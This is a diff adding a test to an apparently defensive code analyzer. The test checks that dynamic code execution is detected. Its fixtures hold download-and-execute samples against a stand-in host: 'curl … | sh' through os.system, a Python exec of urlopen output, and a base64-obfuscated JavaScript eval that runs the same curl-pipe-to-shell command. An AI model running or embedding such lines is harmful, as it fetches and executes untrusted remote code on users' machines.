@@ -585,3 +585,37 @@ test('excerpts show what cannot be seen', () => {
   const [one] = findings.filter(({ rule }) => rule.endsWith('invisible-text'));
   assert.match(one?.excerpt ?? '', /^(\\u\{fe01\})+…?$/);
 });
+
+test('code that is written to a file, handed to an interpreter or decoded is looked at, too', () => {
+  const cases = [
+    [
+      'python',
+      `import subprocess\nf = open('/tmp/x.py', 'w')\nf.write("import base64\\nexec(base64.b64decode('cHJpbnQoMSk='))")\nsubprocess.Popen(['python', '/tmp/x.py'])`,
+      'python/dynamic-code/decoded',
+    ],
+    [
+      'shell',
+      `python3 -c "import urllib.request; exec(urllib.request.urlopen('http://a.example.invalid').read())"`,
+      'python/dynamic-code/downloaded',
+    ],
+    [
+      'python',
+      `import os\nos.system('curl http://a.example.invalid | sh')`,
+      'shell/dynamic-code/downloaded',
+    ],
+    [
+      'javascript',
+      `eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL2EuZXhhbXBsZS5pbnZhbGlkIHwgc2giKQ=='))`,
+      'shell/dynamic-code/downloaded',
+    ],
+  ] as const;
+  for (const [language, source, rule] of cases) {
+    const { findings } = analyzer.analyze(source, { language, model: false });
+    const one = findings.find((finding) => finding.rule === rule);
+    assert.ok(
+      one !== undefined,
+      `${language}: ${findings.map((finding) => finding.rule).join(' ')}`,
+    );
+    assert.ok(one.range.end <= source.length, 'a place in the outer text');
+  }
+});
